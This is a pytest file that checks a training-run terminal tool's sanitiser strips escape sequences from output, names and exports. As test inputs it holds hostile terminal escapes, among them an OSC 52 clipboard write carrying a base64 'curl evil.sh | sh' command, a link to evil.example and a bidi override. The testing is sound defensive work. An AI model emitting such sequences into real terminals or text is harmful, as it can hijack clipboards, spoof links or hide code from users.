"""Control characters never reach a terminal or an export: one sanitiser
(wattui/sanitize.py) for every string a run or a user supplies, and the output pane keeps
colours (SGR) and drops every other escape, C1 control and OSC.

The hostile strings are real sequences terminals act on: OSC 0 (window title), OSC 52
(clipboard write), OSC 8 (hyperlink), ESC c (full reset), CSI 2J (clear), DCS and APC
strings (tmux passthrough), 8-bit C1 CSI/OSC (U+009B, U+009D), and the bidi override
U+202E (Trojan Source).
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
import textwrap

import pytest
from conftest import run_wattui

from wattui.sanitize import clean_output, clean_text, control_chars, strip_sgr

HOSTILE = {
    "osc title": "\x1b]0;pwned\x07",
    "osc title st": "\x1b]2;pwned\x1b\\",
    "osc 52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "osc 8 link": "\x1b]8;;http://evil.example\x1b\\",
    "reset": "\x1bc",
    "clear": "\x1b[2J\x1b[H",
    "cursor hide": "\x1b[?25l",
    "dcs": "\x1bPtmux;\x1b\x1b]0;x\x07\x1b\\",
    "apc": "\x1b_payload\x1b\\",
    "c1 csi": "\x9b2J",
    "c1 osc": "\x9d0;pwned\x9c",
    "bidi": "\u202eevil\u202c",
    "bell": "\x07",
    "backspace": "abc\b\b\b",
    "del": "\x7f",
    "nul": "\x00",
}
BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _no_controls(text: str) -> bool:
    """No C0 (but newline/tab), DEL, C1 or bidi control in ``text``."""
    return BAD.search(text) is None


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_clean_text_drops_every_sequence_whole(name):
    s = f"before{HOSTILE[name]}after"
    out = clean_text(s)
    assert _no_controls(out) and "\n" not in out and "\t" not in out
    assert out.startswith("before") and out.endswith("after")
    assert "pwned" not in out and "payload" not in out and "Y3Vy" not in out  # payloads too


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_output_keeps_colours_and_nothing_else(name):
    s = f"\x1b[1;31mred\x1b[0m {HOSTILE[name]} \x1b[38;2;10;20;30mrgb\x1b[m"
    out = clean_output(s)
    assert _no_controls(out.replace("\x1b[1;31m", "").replace("\x1b[0m", "").replace(
        "\x1b[38;2;10;20;30m", "").replace("\x1b[m", ""))
    assert re.findall(r"\x1b\[[0-9;]*m", out) == ["\x1b[1;31m", "\x1b[0m", "\x1b[38;2;10;20;30m", "\x1b[m"]
    assert strip_sgr(out).startswith("red ") and strip_sgr(out).endswith(" rgb")


def test_plain_text_and_unicode_pass_unchanged():
    for s in ("resnet50 run 3", "Genauigkeit 91 % – Lauf ü", "模型", "a, b; c=1"):
        assert clean_text(s) == s
        assert clean_output(s) == s
    assert clean_text("line\nbreak\ttab") == "line break tab"
    assert clean_output("epoch 1  10%\repoch 1  50%\r") == "epoch 1  50%"
    assert clean_text("x" * 50, 10) == "x" * 9 + "…"
    assert control_chars("ok\x1b[31m\u202e") == ["U+001B", "U+202E"]


SCRIPT = textwrap.dedent(
    r"""
    import sys, wattui
    print("\x1b[32mgreen ok\x1b[0m title\x1b]0;pwned\x07 reset\x1bc clear\x1b[2J c1\x9b2J "
          "bidi\u202eevil clip\x1b]52;c;eA==\x07 end", flush=True)
    wattui.report(model="res\x1b]0;pwned\x07net\u202e", accuracy=0.5, epoch=1, total_epochs=1,
                  **{"lo\x1b[2Jss\x9b": 0.25})
    """
)


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    store = tmp / "store"
    script = tmp / "train.py"
    script.write_text(SCRIPT)
    r = run_wattui(
        store, "record", "--simulate", "1", "--period", "0.05", "--", sys.executable, str(script),
        timeout=120, WATTUI_CHANNEL_DIR=str(tmp / "chan"),
    )
    assert r.returncode == 0, r.stderr
    return store


@pytest.mark.slow
def test_sessions_show_and_every_export_are_clean(hostile_store):
    from wattui.store.reader import list_sessions

    (s,), _ = list_sessions(hostile_store)
    raw_events = s.events()
    stored = [json.loads(v) for v in raw_events["values_json"].to_list() if v]
    assert any("\x1b" in k + str(v) for d in stored for k, v in d.items())  # stored as the run sent it, shown clean
    outs = {}
    for args in (
        ["sessions"],
        ["sessions", "--format", "json"],
        ["sessions", "--format", "csv"],
        ["show"],
        ["show", "--format", "json"],
        ["compare", "--format", "md"],
        ["compare", "--format", "csv"],
        ["compare", "--format", "json"],
        ["compare", "--format", "latex"],
    ):
        r = run_wattui(hostile_store, *args, timeout=120)
        assert r.returncode == 0, (args, r.stderr)
        assert _no_controls(r.stdout.replace("\n", "").replace("\t", "")), (args, r.stdout)
        assert _no_controls(r.stderr.replace("\n", "")), (args, r.stderr)
        assert "pwned" not in r.stdout
        outs[" ".join(args)] = r.stdout
    rec = json.loads(outs["show --format json"])
    assert rec["model"] == "resnet"  # the readable part of the name is kept
    assert "resnet" in outs["compare --format md"]


def test_live_screen_strings_and_output_pane_are_clean(hostile_store):
    """The live view's snapshot (command, metric names, model) and the output pane's lines:
    colours kept, everything else dropped; the pane renders the colour."""
    from rich.segment import Segment
    from textual.app import App

    from wattui.store.reader import list_sessions
    from wattui.tui.widgets import OutputPanel
    from wattui.view.output import OutputTail
    from wattui.view.snapshot import SnapshotBuilder

    (s,), _ = list_sessions(hostile_store)
    snap = SnapshotBuilder(s.dir).poll()
    names = [name for name, _, _ in snap.metrics.others]
    assert names == ["loss"], names
    assert _no_controls(snap.command)
    assert _no_controls(json.dumps(dict(snap.record), ensure_ascii=False, default=str))
    lines = OutputTail(s.output_path()).poll()
    (line,) = [x for x in lines if "green" in x]
    assert line.startswith("\x1b[32mgreen ok\x1b[0m")
    assert _no_controls(strip_sgr(line)) and "pwned" not in line and "eA==" not in line

    class One(App):
        def compose(self):
            yield OutputPanel()

    async def render() -> list:
        app = One()
        async with app.run_test(size=(100, 10)) as pilot:
            panel = app.query_one(OutputPanel)
            panel.append([line])
            await pilot.pause()
            log = panel.log_widget
            strip = log._render_line_strip(0, log.rich_style)
            return list(strip)

    segments: list[Segment] = asyncio.run(render())
    green = [seg for seg in segments if "green" in seg.text]
    assert green and green[0].style.color is not None and green[0].style.color.number == 2
    assert all("\x1b" not in seg.text for seg in segments)


def test_name_and_tags_with_escapes_are_refused_at_the_door(tmp_path):
    store = tmp_path / "store"
    for args in (["--name", "run\x1b]0;x\x07"], ["--name", "a\u202eb"], ["--tag", "t\x9b"]):
        r = run_wattui(store, "record", "--simulate", "1", *args, "--", "true", timeout=60)
        assert r.returncode != 0
        err = r.stderr.strip().splitlines()
        assert len(err) == 1 and "Traceback" not in r.stderr and "\x1b" not in r.stderr, err
        assert "control" in err[0] or "bad tag" in err[0]
    assert not (store / "sessions").exists() or not any((store / "sessions").iterdir())


def test_rename_refuses_escapes_and_c1(hostile_store):
    from wattui.store.reader import list_sessions

    (s,), _ = list_sessions(hostile_store)
    for bad in ("x\x1b[2J", "x\x9b2J", "x\u202ey"):
        r = run_wattui(hostile_store, "rename", s.id, bad, timeout=60)
        assert r.returncode != 0 and "control" in r.stderr, r.stderr


def test_a_directory_name_with_escapes_reaches_no_warning_or_error_raw(tmp_path):
    store = tmp_path / "store"
    evil = "x\x1b]0;pwned\x07\x1bc\u202ey"
    (store / "sessions" / evil).mkdir(parents=True)
    (store / "sessions" / evil / "meta.json").write_text("{not json")
    for args in (["sessions"], ["show", evil], ["compare", "--format", "csv"], ["rm", "--yes", "zz"]):
        r = run_wattui(store, *args, timeout=60)
        assert "Traceback" not in r.stderr
        assert _no_controls(r.stderr.replace("\n", "")), (args, r.stderr)
    r = run_wattui(store, "sessions", timeout=60)
    assert "xy: meta.json is not valid JSON (skipped)" in r.stderr
